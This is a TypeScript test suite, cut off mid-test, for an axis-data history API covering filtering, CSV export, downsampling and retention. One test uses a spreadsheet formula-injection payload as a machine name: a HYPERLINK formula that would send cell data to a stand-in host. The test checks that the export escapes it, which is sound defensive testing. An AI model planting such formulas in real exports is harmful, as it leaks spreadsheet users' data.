import { execFile } from "node:child_process";
import { get as httpGet, type IncomingMessage } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";
import { promisify } from "node:util";
import Fastify from "fastify";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildTestApp, type TestApp } from "../../../test/helpers/app.ts";
import { testDatabaseKind } from "../../../test/helpers/database.ts";
import { createAxis, createMachine, createTool } from "../../../test/helpers/factories.ts";
import { registerErrorHandler } from "../../platform/error-handler.ts";
import { validatorCompiler } from "../../platform/validation.ts";
import { encodeJson } from "./history-encoding.ts";
import { historyRoutes } from "./history-routes.ts";
import { emptyFields, historyFields } from "./history-schemas.ts";
import { bucketGrid, createHistoryService, tierHorizons } from "./history-service.ts";

/** Every tier kept a century: the samples below are dated from January 2026 on, whatever today is. */
const keepEverything = {
  RETENTION_DAYS: "36500",
  ROLLUP_1S_RETENTION_DAYS: "36500",
  ROLLUP_5S_RETENTION_DAYS: "36500",
  ROLLUP_10S_RETENTION_DAYS: "36500",
  ROLLUP_1M_RETENTION_DAYS: "36500",
};

let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp(keepEverything);
});
afterAll(() => t.close());

const second = 1000;
const minute = 60_000;
const day = 86_400_000;

interface Sample {
  at: number;
  actual: number;
  target: number;
  homed: boolean;
  acceleration: number;
  velocity: number;
}

/** A day of its own for each test, so windows never see another test's samples. */
let dayCounter = 0;
const freshDay = () => Date.UTC(2026, 0, 1) + ++dayCounter * day;

/**
 * Writes samples straight into axis_data, as the ingest pipeline would, and tells the rollup
 * maintainer, as every writer does, so downsampled answers can use the rollups.
 */
async function insertSamples(axisId: number, samples: Sample[], app = t): Promise<void> {
  await app.services.partitions.ensure(samples.map((sample) => sample.at));
  await app.database.db.query(
    `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
                            acceleration, velocity)
     select $1, * from unnest($2::timestamptz[], $3::float8[], $4::float8[], $5::bool[],
                              $6::float8[], $7::float8[])`,
    [
      axisId,
      samples.map((sample) => new Date(sample.at).toISOString()),
      samples.map((sample) => sample.actual),
      samples.map((sample) => sample.target),
      samples.map((sample) => sample.homed),
      samples.map((sample) => sample.acceleration),
      samples.map((sample) => sample.velocity),
    ],
  );
  for (const sample of samples) app.services.rollups.noteSample(axisId, sample.at);
  await app.services.rollups.flush();
}

/**
 * `count` samples of one axis from `from`, `step` apart (an SQL interval), the nth at position n
 * (homed, at rest): made in the database, as many as a test needs.
 */
async function insertRun(axisId: number, from: number, count: number, step: string) {
  await t.services.partitions.ensure([from]);
  await t.database.db.query(
    `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
                            acceleration, velocity)
     select $1, $2::timestamptz + n * $4::interval, n, n, true, 0, 0
     from generate_series(0, $3::int - 1) n`,
    [axisId, iso(from), count, step],
  );
}

/** A smooth curve with deterministic spikes, so a bucket's extremes are not its neighbours'. */
function curve(start: number, count: number, stepMs: number, seed = 1): Sample[] {
  return Array.from({ length: count }, (_, i) => {
    const spike = (i * 7919 + seed * 104729) % 97 === 0 ? (i % 2 === 0 ? 500 : -500) : 0;
    const actual = Math.round((100 * Math.sin(i / 50 + seed) + spike) * 1000) / 1000;
    return {
      at: start + i * stepMs,
      actual,
      target: Math.round((actual + Math.cos(i / 10) * 3) * 1000) / 1000,
      homed: (i + seed) % 53 !== 0,
      acceleration: ((i * 31 + seed) % 200) - 100,
      velocity: ((i * 17 + seed) % 400) / 4,
    };
  });
}

async function machineWithAxes(names: string[], overrides: Record<string, unknown> = {}) {
  const machine = await createMachine(t, overrides);
  const axes: Record<string, { axis_id: number }> = {};
  for (const name of names)
    axes[name] = await createAxis(t, machine.machine_id, { axis_name: name });
  return { machine, axes };
}

const iso = (ms: number) => new Date(ms).toISOString();
const execFileAsync = promisify(execFile);
const get = (query: string, headers = t.adminAuth) =>
  t.inject({ method: "GET", url: `/api/axis-data/?${query}`, headers });
const post = (payload: unknown, headers = t.adminAuth) =>
  t.inject({ method: "POST", url: "/api/axis-data/", headers, payload: payload as object });

async function rows(query: string): Promise<Record<string, unknown>[]> {
  const answer = await get(query);
  expect(answer.statusCode, answer.body).toBe(200);
  return answer.json();
}

/** RFC 4180 parser for the tests: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      record.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i++;
    } else field += c;
  }
  if (field !== "" || record.length > 0) throw new Error("CSV does not end with CRLF");
  return records;
}

describe("GET and POST /api/axis-data/", () => {
  it("answers the seed's axis data rows, ordered by axis then time; from inclusive, to exclusive", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const from = freshDay() + 10 * minute;
    const to = from + minute;
    const times = [from - 1, from, from + 1, from + 30 * second, to - 1, to, to + 1];
    await insertSamples(
      axes.X!.axis_id,
      times.map((at, i) => ({
        at,
        actual: i,
        target: i + 2.5,
        homed: true,
        acceleration: 0,
        velocity: 10,
      })),
    );
    const answer = await rows(`machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(to)}`);
    expect(answer.map((row) => row.update_timestamp)).toEqual(
      [from, from + 1, from + 30 * second, to - 1].map(iso),
    );
    expect(answer[0]).toEqual({
      axis_data_id: expect.any(Number),
      axis: axes.X!.axis_id,
      machine_id: machine.machine_id,
      machine_name: machine.machine_name,
      axis_name: "X",
      actual_position: 1,
      target_position: 3.5,
      distance_to_go: 2.5,
      homed: true,
      acceleration: 0,
      velocity: 10,
      update_timestamp: iso(from),
    });
    expect(Object.keys(answer[0]!)).toEqual([
      "axis_data_id",
      "axis",
      "machine_id",
      "machine_name",
      "axis_name",
      ...historyFields,
      "update_timestamp",
    ]);
    // The same through POST with a JSON body.
    const posted = await post({ machine_id: [machine.machine_id], from: iso(from), to: iso(to) });
    expect(posted.statusCode, posted.body).toBe(200);
    expect(posted.json()).toEqual(answer);
  });

  it("defaults to the last 15 minutes; minutes widens it; to alone ends the window", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const now = t.clock.now().getTime();
    const offsets = [-40, -16, -14, -1];
    await insertSamples(
      axes.X!.axis_id,
      offsets.map((offset, i) => ({
        at: now + offset * minute,
        actual: i,
        target: i,
        homed: true,
        acceleration: 0,
        velocity: 0,
      })),
    );
    const actuals = async (query: string) =>
      (await rows(`machine_id=${machine.machine_id}${query}`)).map((row) => row.actual_position);
    expect(await actuals("")).toEqual([2, 3]);
    expect(await actuals("&minutes=20")).toEqual([1, 2, 3]);
    expect(await actuals(`&to=${iso(now - 15 * minute)}`)).toEqual([1]);
    expect(await actuals(`&to=${iso(now - 15 * minute)}&minutes=30`)).toEqual([0, 1]);
    expect(await actuals(`&from=${iso(now - 20 * minute)}`)).toEqual([1, 2, 3]);
    expect(await actuals(`&from=${iso(now - 20 * minute)}&minutes=5`)).toEqual([1]);
    // The seed's POST for "the last 15 minutes" sent no parameters at all.
    const bare = await t.inject({ method: "POST", url: "/api/axis-data/", headers: t.adminAuth });
    expect(bare.statusCode, bare.body).toBe(200);
    expect(
      bare
        .json()
        .filter((row: { machine_id: number }) => row.machine_id === machine.machine_id)
        .map((row: { actual_position: number }) => row.actual_position),
    ).toEqual([2, 3]);
    const posted = await post({ machine_id: machine.machine_id });
    expect(posted.json().map((row: { actual_position: number }) => row.actual_position)).toEqual([
      2, 3,
    ]);
    // A POST may carry its parameters in the query string, alone or beside a body.
    const postedTo = (query: string, payload?: object) =>
      t.inject({
        method: "POST",
        url: `/api/axis-data/?${query}`,
        headers: t.adminAuth,
        ...(payload ? { payload } : {}),
      });
    const inQuery = await postedTo(`machine_id=${machine.machine_id}&minutes=20&fields=velocity`);
    expect(inQuery.statusCode, inQuery.body).toBe(200);
    expect(inQuery.json()).toHaveLength(3);
    expect(Object.keys(inQuery.json()[0])).not.toContain("actual_position");
    const split = await postedTo(`machine_id=${machine.machine_id}`, { minutes: 20 });
    expect(split.json()).toHaveLength(3);
    const twice = await postedTo(`machine_id=${machine.machine_id}&minutes=20`, { minutes: 5 });
    expect(twice.statusCode).toBe(400);
    expect(twice.json()).toEqual({
      minutes: ["Given in both the query string and the body; give it once."],
    });
    const unknown = await postedTo("machine=1");
    expect(unknown.statusCode).toBe(400);
  });

  it("filters by machines and axes, given as repeated parameters, comma lists or arrays", async () => {
    const a = await machineWithAxes(["X", "Y", "Z"]);
    const b = await machineWithAxes(["X", "Y"]);
    const c = await machineWithAxes(["X"]);
    const from = freshDay();
    for (const { axes } of [a, b, c]) {
      for (const axis of Object.values(axes)) {
        await insertSamples(axis.axis_id, curve(from, 3, second, axis.axis_id));
      }
    }
    const window = `from=${iso(from)}&to=${iso(from + minute)}`;
    const series = (answer: Record<string, unknown>[]) => [
      ...new Set(answer.map((row) => `${row.machine_id}:${row.axis_name}`)),
    ];
    const [ma, mb, mc] = [a, b, c].map(({ machine }) => machine.machine_id as number);
    expect(series(await rows(`${window}&machine_id=${ma}`))).toEqual([
      `${ma}:X`,
      `${ma}:Y`,
      `${ma}:Z`,
    ]);
    const both = [`${ma}:X`, `${ma}:Y`, `${mb}:X`, `${mb}:Y`];
    expect(series(await rows(`${window}&machine_id=${ma}&machine_id=${mb}&axis_name=X,Y`))).toEqual(
      both,
    );
    expect(series(await rows(`${window}&machine_id=${ma},${mb}&axis_name=X&axis_name=Y`))).toEqual(
      both,
    );
    const posted = await post({
      from: iso(from),
      to: iso(from + minute),
      machine_id: [ma, mb],
      axis_name: ["X", "Y"],
    });
    expect(series(posted.json())).toEqual(both);
    // No machine filter: every machine with samples in the window (this day is this test's own).
    expect(series(await rows(`${window}&axis_name=X`))).toEqual([`${ma}:X`, `${mb}:X`, `${mc}:X`]);
    expect(await rows(`${window}`)).toHaveLength(18);
    // An unknown machine or axis is simply an empty answer.
    expect(await rows(`${window}&machine_id=987654321987`)).toEqual([]);
    expect(await rows(`${window}&machine_id=${ma}&axis_name=Q`)).toEqual([]);
  });

  it("answers only the requested fields, in the seed's order", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const from = freshDay();
    await insertSamples(axes.X!.axis_id, curve(from, 5, second));
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + minute)}`;
    const answer = await rows(`${query}&fields=velocity,homed&fields=velocity`);
    expect(answer).toHaveLength(5);
    expect(Object.keys(answer[0]!)).toEqual([
      "axis_data_id",
      "axis",
      "machine_id",
      "machine_name",
      "axis_name",
      "homed",
      "velocity",
      "update_timestamp",
    ]);
    const bucketed = await rows(`${query}&fields=distance_to_go&max_points=2`);
    expect(Object.keys(bucketed[0]!)).toEqual([
      "axis",
      "machine_id",
      "machine_name",
      "axis_name",
      "distance_to_go",
      "distance_to_go_min",
      "distance_to_go_max",
      "update_timestamp",
      "samples",
    ]);
  });

  it("answers a NaN or infinite value stored by another writer as null in JSON, empty in CSV", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const from = freshDay();
    await t.services.partitions.ensure([from]);
    await t.database.db.query(
      `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
                              acceleration, velocity)
       values ($1, $2, 1e-5, 1e20, false, 'Infinity', 'NaN')`,
      [axes.X!.axis_id, iso(from)],
    );
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + minute)}`;
    expect(await rows(query)).toMatchObject([
      {
        actual_position: 1e-5,
        target_position: 1e20,
        homed: false,
        acceleration: null,
        velocity: null,
      },
    ]);
    const raw = await get(`${query}&format=csv`);
    // Raw samples are no buckets: no width is stated.
    expect(raw.headers["x-bucket-width-ms"]).toBeUndefined();
    const [, record] = parseCsv(raw.body);
    expect(record!.slice(5, 8).map(Number)).toEqual([1e-5, 1e20, 1e20]);
    expect(record!.slice(8, 11)).toEqual(["false", "", ""]);
    // Downsampled (buckets of 600 ms: from raw samples, as direct SQL fills no rollups), a
    // bucket's average, min and max of those fields alike.
    const bucket = {
      actual_position: 1e-5,
      actual_position_min: 1e-5,
      homed: false,
      homed_max: false,
      acceleration: null,
      acceleration_min: null,
      acceleration_max: null,
      velocity: null,
      velocity_min: null,
      velocity_max: null,
      samples: 1,
    };
    expect(await rows(`${query}&max_points=100`)).toMatchObject([bucket]);
    const csv = await get(`${query}&max_points=100&format=csv`);
    expect(csv.headers["x-bucket-width-ms"]).toBe("600");
    const [header, buckets] = parseCsv(csv.body);
    const csvBucket = Object.fromEntries(header!.map((column, i) => [column, buckets![i]]));
    expect(csvBucket).toMatchObject({
      actual_position_min: "1e-05",
      homed_max: "false",
      acceleration: "",
      acceleration_max: "",
      velocity_min: "",
      samples: "1",
    });
  });

  it("exports names a spreadsheet would run as formulas as text, and negative numbers as numbers", async () => {
    const name = '=HYPERLINK("http://x/?"&A2,"open")';
    const { machine, axes } = await machineWithAxes(["X"], { machine_name: name });
    const from = freshDay();
    await t.services.partitions.ensure([from]);
    await t.database.db.query(
      `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
                              acceleration, velocity)
       values ($1, $2, -12.5, -1, true, -3, -4)`,
      [axes.X!.axis_id, iso(from)],
    );
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + minute)}`;
    expect((await rows(query))[0]).toMatchObject({ machine_name: name, actual_position: -12.5 });
    for (const extra of ["", "&max_points=100"]) {
      const [header, record] = parseCsv((await get(`${query}${extra}&format=csv`)).body);
      const cell = Object.fromEntries(header!.map((column, i) => [column, record![i]]));
      expect(cell).toMatchObject({ machine_name: `'${name}`, actual_position: "-12.5" });
    }
  });

  it("an empty window is 200 [] (and a CSV of only its header)", async () => {
    const { machine } = await machineWithAxes(["X"]);
    const from = freshDay();
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + minute)}`;
    expect(await rows(query)).toEqual([]);
    expect(await rows(`${query}&max_points=10`)).toEqual([]);
    const csv = await get(`${query}&format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(parseCsv(csv.body)).toHaveLength(1);
  });
});

describe("downsampling (max_points)", () => {
  it("keeps every bucket's true min, max, average and count, and at most max_points per series", async () => {
    const { machine, axes } = await machineWithAxes(["X", "Y"]);
    const from = freshDay() + 3 * 3_600_000 + 123;
    const to = from + 100 * second;
    const data: Record<string, Sample[]> = {
      X: curve(from - 5 * second, 1200, 100, 3),
      Y: curve(from, 997, 97, 5),
    };
    for (const [name, samples] of Object.entries(data)) {
      await insertSamples(axes[name]!.axis_id, samples);
    }
    // 1 and 7: the 1 min and 10 s tiers; 25: 5 s; 37: 1 s; 100 (the 1 s grid would keep 51
    // buckets) and 5000: raw samples.
    const tiers = ["axis_data_1m", "axis_data_10s", "axis_data_5s", "axis_data_1s"];
    for (const [i, maxPoints] of [1, 7, 25, 37, 100, 5000].entries()) {
      const answered = await get(
        `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(to)}&max_points=${maxPoints}`,
      );
      expect(answered.statusCode, answered.body).toBe(200);
      const answer: Record<string, unknown>[] = answered.json();
      // The grid: ⌈window ÷ max_points⌉ from `from`, or snapped to a rollup tier's 1 s, 5 s, 10 s
      // or 1 min grid, starting on a multiple of the width (the first bucket labelled with `from`).
      const grid = bucketGrid(from, to, maxPoints);
      // The answer states the width; its buckets' starts cannot where some are empty.
      expect(answered.headers["x-bucket-width-ms"]).toBe(String(grid.widthMs));
      expect(grid.rollup?.table ?? "raw").toBe(tiers[i] ?? "raw");
      const resolution = grid.rollup?.resolutionMs ?? 1;
      expect(grid.originMs % resolution).toBe(0);
      expect(grid.widthMs % resolution).toBe(0);
      expect(grid.originMs).toBeLessThanOrEqual(from);
      for (const name of ["X", "Y"]) {
        // Brute force: every sample of the window in its bucket.
        const expected = new Map<number, Sample[]>();
        for (const sample of data[name]!) {
          if (sample.at < from || sample.at >= to) continue;
          const start =
            grid.originMs + Math.floor((sample.at - grid.originMs) / grid.widthMs) * grid.widthMs;
          const bucket = Math.max(start, from);
          expected.set(bucket, [...(expected.get(bucket) ?? []), sample]);
        }
        const got = answer.filter((row) => row.axis_name === name);
        expect(got.length).toBeLessThanOrEqual(maxPoints);
        expect(got.map((row) => row.update_timestamp)).toEqual([...expected.keys()].map(iso));
        for (const row of got) {
          const samples = expected.get(Date.parse(row.update_timestamp as string))!;
          const values = {
            actual_position: samples.map((s) => s.actual),
            target_position: samples.map((s) => s.target),
            distance_to_go: samples.map((s) => s.target - s.actual),
            acceleration: samples.map((s) => s.acceleration),
            velocity: samples.map((s) => s.velocity),
          };
          expect(row.samples).toBe(samples.length);
          for (const [field, list] of Object.entries(values)) {
            expect(row[`${field}_min`]).toBeCloseTo(Math.min(...list), 9);
            expect(row[`${field}_max`]).toBeCloseTo(Math.max(...list), 9);
            expect(row[field]).toBeCloseTo(list.reduce((a, b) => a + b, 0) / list.length, 6);
          }
          expect(row.homed).toBe(samples.every((s) => s.homed));
          expect(row.homed_min).toBe(samples.every((s) => s.homed));
          expect(row.homed_max).toBe(samples.some((s) => s.homed));
          expect(row).toMatchObject({
            axis: axes[name]!.axis_id,
            machine_id: machine.machine_id,
            machine_name: machine.machine_name,
            axis_name: name,
          });
        }
      }
      // The spikes (±500 around a curve of amplitude 100) survive any resolution.
      const extremes = answer.filter((row) => row.axis_name === "X");
      expect(Math.max(...extremes.map((row) => row.actual_position_max as number))).toBeGreaterThan(
        300,
      );
      expect(Math.min(...extremes.map((row) => row.actual_position_min as number))).toBeLessThan(
        -300,
      );
    }
    // A window inside one rollup row of the tier chosen: all raw, and nothing after `to`.
    const inside = from - (from % 60_000) + 61_000;
    const grid = bucketGrid(inside, inside + 5 * second, 1);
    expect(grid.rollup).toBeDefined();
    const [only] = await rows(
      `machine_id=${machine.machine_id}&axis_name=X&from=${iso(inside)}&to=${iso(inside + 5 * second)}&max_points=1`,
    );
    const within = data.X!.filter((one) => one.at >= inside && one.at < inside + 5 * second);
    expect(only!.samples).toBe(within.length);
    expect(only!.actual_position_max).toBeCloseTo(Math.max(...within.map((one) => one.actual)), 9);
  });

  it("reads the coarsest rollup tier whose grid keeps at least 2/3 of the points asked for", () => {
    const from = Date.UTC(2026, 10, 24, 10, 0, 0, 123);
    const hour = 3_600_000;
    const tier = (windowMs: number, maxPoints: number) => {
      const grid = bucketGrid(from, from + windowMs, maxPoints);
      const buckets = Math.ceil((from + windowMs - grid.originMs) / grid.widthMs);
      expect(buckets).toBeLessThanOrEqual(maxPoints);
      return [grid.rollup?.table ?? "raw", grid.widthMs, buckets >= (2 / 3) * maxPoints];
    };
    expect(tier(24 * hour, 1000)).toEqual(["axis_data_1m", 120_000, true]);
    expect(tier(6 * hour, 1000)).toEqual(["axis_data_10s", 30_000, true]);
    expect(tier(2 * hour, 1000)).toEqual(["axis_data_10s", 10_000, true]);
    // 3.6 s asked: the 10 s grid keeps 360 buckets, too few; the 5 s one 720, reading 5 times
    // fewer rows than the 1 s tier's 900 buckets of 4 s.
    expect(tier(hour, 1000)).toEqual(["axis_data_5s", 5000, true]);
    expect(tier(hour, 800)).toEqual(["axis_data_5s", 5000, true]);
    expect(tier(hour, 700)).toEqual(["axis_data_1s", 6000, true]);
    expect(tier(30 * minute, 1000)).toEqual(["axis_data_1s", 2000, true]);
    expect(tier(15 * minute, 1000)).toEqual(["axis_data_1s", 1000, true]);
    expect(tier(15 * minute, 2000)).toEqual(["raw", 450, true]);
    expect(tier(100 * second, 7)).toEqual(["axis_data_10s", 20_000, true]);
  });

  it("passes over a tier retention has emptied at the window's start: the next coarser, then finer", () => {
    const now = Date.UTC(2026, 10, 24, 10, 0, 0);
    const policy = {
      rawDays: 30,
      secondDays: 90,
      fiveSecondDays: 180,
      tenSecondDays: 365,
      minuteDays: 730,
    };
    const tier = (daysAgo: number, windowMs: number, maxPoints: number, kept = policy) => {
      const from = now - daysAgo * day;
      const grid = bucketGrid(from, from + windowMs, maxPoints, tierHorizons(kept, now));
      expect(Math.ceil((from + windowMs - grid.originMs) / grid.widthMs)).toBeLessThanOrEqual(
        maxPoints,
      );
      return [grid.rollup?.table ?? "raw", grid.widthMs];
    };
    // 10 min at 600 points wants 1 s buckets: the 1 s rows are kept 90 days, the 5 s ones 180.
    expect(tier(89, 10 * minute, 600)).toEqual(["axis_data_1s", 1000]);
    expect(tier(100, 10 * minute, 600)).toEqual(["axis_data_5s", 5000]);
    expect(tier(200, 10 * minute, 600)).toEqual(["axis_data_10s", 10_000]);
    expect(tier(400, 10 * minute, 600)).toEqual(["axis_data_1m", 60_000]);
    // Older than every tier: the coarsest.
    expect(tier(800, 10 * minute, 600)).toEqual(["axis_data_1m", 60_000]);
    // Raw buckets of 450 ms, but raw samples are kept 30 days.
    expect(tier(29, 15 * minute, 2000)).toEqual(["raw", 450]);
    expect(tier(40, 15 * minute, 2000)).toEqual(["axis_data_1s", 1000]);
    // The window's start decides: a window reaching back past a horizon reads the coarser tier.
    expect(tier(90 + 1 / 24, 2 * 3_600_000, 7200)).toEqual(["axis_data_5s", 5000]);
    // 1 min rows kept less than 10 s ones: no coarser tier holds a day 100 days ago, a finer one does.
    const shortMinutes = { ...policy, minuteDays: 10 };
    expect(tier(100, day, 1000, shortMinutes)).toEqual(["axis_data_10s", 90_000]);
  });

  it("a window at the very start of year 1 answers whole: its grid starts no earlier", async () => {
    // The grid starts on a multiple of the bucket width, which for these widths is before year
    // 1: an instant PostgreSQL refused after the answer had begun.
    const { machine, axes } = await machineWithAxes(["X"]);
    const yearOne = Date.parse("0001-01-01T00:00:00Z");
    await insertSamples(axes.X!.axis_id, curve(yearOne + 2 * day, 50, second));
    for (const maxPoints of [1, 2]) {
      const query = `machine_id=${machine.machine_id}&from=${iso(yearOne)}&to=${iso(yearOne + 7 * day)}&max_points=${maxPoints}`;
      const got = await rows(query);
      expect(got.map((row) => [row.update_timestamp, row.samples])).toEqual([
        ["0001-01-01T00:00:00.000Z", 50],
      ]);
      const csv = await get(`${query}&format=csv`);
      expect(csv.statusCode, csv.body).toBe(200);
      expect(parseCsv(csv.body)).toHaveLength(2);
    }
    // And at the end of 9999.
    expect(
      await rows(
        `machine_id=${machine.machine_id}&from=9999-12-24T00:00:00Z&to=9999-12-31T23:59:59.999Z&max_points=1`,
      ),
    ).toEqual([]);
  });

  it("a few points over a window across 1970-01-01, a multiple of every width, answer at once", async () => {
    // No grid that starts on a multiple of its width puts such a window in one bucket: the
    // search for one ran until the width reached back to year 1, billions of steps that held
    // the whole process for minutes.
    const { machine, axes } = await machineWithAxes(["X"]);
    const epoch = 0;
    await insertSamples(axes.X!.axis_id, curve(epoch - day, 30, second));
    await insertSamples(axes.X!.axis_id, curve(epoch + day, 20, second));
    const from = Date.parse("1969-12-01T00:00:00Z");
    const to = Date.parse("1970-01-31T00:00:00Z");
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(to)}`;
    expect(
      (await rows(`${query}&max_points=1`)).map((row) => [row.update_timestamp, row.samples]),
    ).toEqual([[iso(from), 50]]);
    const two = await rows(`${query}&max_points=2`);
    expect(two.length).toBeLessThanOrEqual(2);
    expect(two.reduce((sum, row) => sum + (row.samples as number), 0)).toBe(50);
    // Awkward windows far from 1970 too: each grid fits, on its tier's grid, from `from` on.
    const windows: [string, string, number][] = [
      ["1969-12-31T23:59:59.999Z", "1970-01-01T00:00:00.001Z", 1],
      ["1000-03-01T00:00:00.123Z", "1001-04-01T00:00:00Z", 1],
      ["1000-03-01T00:00:00.123Z", "1001-04-01T00:00:00Z", 2],
      ["0001-01-01T00:00:00Z", "0002-01-01T00:00:00Z", 1],
      ["2026-11-24T23:59:59.999Z", "2026-11-25T00:00:00.001Z", 1],
    ];
    for (const [start, end, maxPoints] of windows) {
      const [fromMs, toMs] = [Date.parse(start), Date.parse(end)];
      const grid = bucketGrid(fromMs, toMs, maxPoints);
      const resolution = grid.rollup?.resolutionMs ?? 1;
      expect(Math.ceil((toMs - grid.originMs) / grid.widthMs)).toBeLessThanOrEqual(maxPoints);
      expect(grid.originMs).toBeLessThanOrEqual(fromMs);
      expect(grid.originMs).toBeGreaterThanOrEqual(Date.parse("0001-01-01T00:00:00Z"));
      expect(Math.abs(grid.originMs % resolution)).toBe(0);
      expect(grid.widthMs % resolution).toBe(0);
    }
  });

  it("groups series and slices long ones into several queries without losing or repeating a bucket", async () => {
    const { machine, axes } = await machineWithAxes(["X", "Y", "Z"]);
    const from = freshDay();
    for (const [i, axis] of Object.values(axes).entries()) {
      await insertSamples(axis.axis_id, curve(from, 2000, 50, i));
    }
    const collect = async (bucketsPerQuery: number, maxPoints: number) => {
      const history = createHistoryService({ db: t.database.db, clock: t.clock, bucketsPerQuery });
      const answer = await history.query({
        machineIds: [machine.machine_id],
        from: new Date(from),
        to: new Date(from + 100 * second),
        maxPoints,
      });
      let json = "";
      for await (const chunk of encodeJson(answer)) json += chunk;
      const rows = (JSON.parse(json) as Record<string, unknown>[]).map(
        (row): Record<string, unknown> => ({ ...row, axis: row.axis_name }),
      );
      return { bucketMs: answer.bucketMs, rows };
    };
    // 7 buckets per query: each series in slices of 7; 500: two series per query, then one.
    for (const bucketsPerQuery of [7, 500, 20_000]) {
      const { bucketMs, rows } = await collect(bucketsPerQuery, 250);
      expect(bucketMs).toBe(400);
      expect(rows).toHaveLength(750);
      for (const [i, name] of ["X", "Y", "Z"].entries()) {
        const series = rows.slice(i * 250, (i + 1) * 250);
        expect(series.every((row) => row.axis === name)).toBe(true);
        expect(series.reduce((sum, row) => sum + (row.samples as number), 0)).toBe(2000);
        expect(series.map((row) => Date.parse(row.update_timestamp as string))).toEqual(
          Array.from({ length: 250 }, (_, k) => from + k * 400),
        );
      }
      expect(rows).toEqual((await collect(20_000, 250)).rows);
    }
  });
});

describe("downsampling older windows", () => {
  let aged: TestApp;
  let machineId: number;
  let axisId: number;
  beforeAll(async () => {
    // Spindle's default retention.
    aged = await buildTestApp({
      RETENTION_DAYS: "30",
      ROLLUP_1S_RETENTION_DAYS: "90",
      ROLLUP_5S_RETENTION_DAYS: "180",
      ROLLUP_10S_RETENTION_DAYS: "365",
      ROLLUP_1M_RETENTION_DAYS: "730",
    });
    machineId = (await createMachine(aged)).machine_id;
    axisId = (await createAxis(aged, machineId, { axis_name: "X" })).axis_id;
  });
  afterAll(() => aged.close());

  /** Samples every 100 ms around [from, to), rolled up, then retention applied as it runs. */
  async function retained(from: number, to: number): Promise<Sample[]> {
    const start = Math.floor(from / minute) * minute - minute;
    const samples = curve(start, (to - start + 2 * minute) / 100, 100, 7);
    await insertSamples(axisId, samples, aged);
    await aged.services.applyRetention();
    return samples;
  }

  async function downsampled(from: number, to: number, maxPoints: number) {
    const answer = await aged.inject({
      method: "GET",
      url: `/api/axis-data/?machine_id=${machineId}&from=${iso(from)}&to=${iso(to)}&max_points=${maxPoints}`,
      headers: aged.adminAuth,
    });
    expect(answer.statusCode, answer.body).toBe(200);
    return answer.json() as Record<string, unknown>[];
  }

  /** What `wholeRows` gives of a bucket, to compare with it. */
  const bucketOf = ({
    update_timestamp,
    samples,
    actual_position_min,
    actual_position_max,
  }: Record<string, unknown>) => ({
    update_timestamp,
    samples,
    actual_position_min,
    actual_position_max,
  });

  /** Every sample of the `widthMs` rows that overlap [from, to), by row, the first labelled `from`. */
  function wholeRows(samples: Sample[], from: number, to: number, widthMs: number) {
    const first = Math.floor(from / widthMs) * widthMs;
    const end = Math.ceil(to / widthMs) * widthMs;
    const rows = new Map<number, Sample[]>();
    for (const sample of samples) {
      if (sample.at < first || sample.at >= end) continue;
      const row = Math.max(from, Math.floor(sample.at / widthMs) * widthMs);
      rows.set(row, [...(rows.get(row) ?? []), sample]);
    }
    return [...rows.entries()].map(([at, list]) => ({
      update_timestamp: iso(at),
      samples: list.length,
      actual_position_min: Math.min(...list.map((one) => one.actual)),
      actual_position_max: Math.max(...list.map((one) => one.actual)),
    }));
  }

  it("a window whose 1 s rollups are gone is read from the 5 s ones, its edges whole rows", async () => {
    // 10 minutes 100 days ago at 600 points: 1 s buckets, but the 1 s rows were dropped after
    // 90 days and the raw samples after 30; the 5 s rows are kept 180. Off the grid, so the
    // partial rows at both edges, whose raw samples are gone too, are read whole.
    const from = Math.floor((aged.clock.now().getTime() - 100 * day) / minute) * minute + 2000;
    const to = from + 10 * minute;
    const samples = await retained(from, to);
    const got = await downsampled(from, to, 600);
    expect(got.map(bucketOf)).toEqual(wholeRows(samples, from, to, 5000));
    expect(got).toHaveLength(121);
  });

  it("a window whose raw samples are gone is read from the 1 s rollups", async () => {
    // 15 minutes 40 days ago at 2,000 points: raw buckets of 450 ms, but raw samples are kept
    // 30 days and the 1 s rows 90.
    const from = Math.floor((aged.clock.now().getTime() - 40 * day) / minute) * minute;
    const to = from + 15 * minute;
    const samples = await retained(from, to);
    const got = await downsampled(from, to, 2000);
    expect(got).toHaveLength(900);
    expect(got.map(bucketOf)).toEqual(wholeRows(samples, from, to, 1000));
  });
});

describe("streaming", () => {
  it("a raw window of 50,000 samples arrives whole, every row once, in order, as JSON and CSV", async () => {
    const { machine, axes } = await machineWithAxes(["X", "Y"], {
      machine_name: 'Mill "North", bay 2',
    });
    const from = freshDay();
    await t.services.partitions.ensure([from]);
    for (const [i, axis] of Object.values(axes).entries()) {
      await t.database.db.query(
        `insert into axis_data (axis_id, update_timestamp, actual_position, target_position,
                                homed, acceleration, velocity)
         select $1, $2::timestamptz + n * interval '10 milliseconds', n * 0.5, n * 0.5 + $3,
                n % 7 <> 0, n % 11, n % 13
         from generate_series(0, 24999) n`,
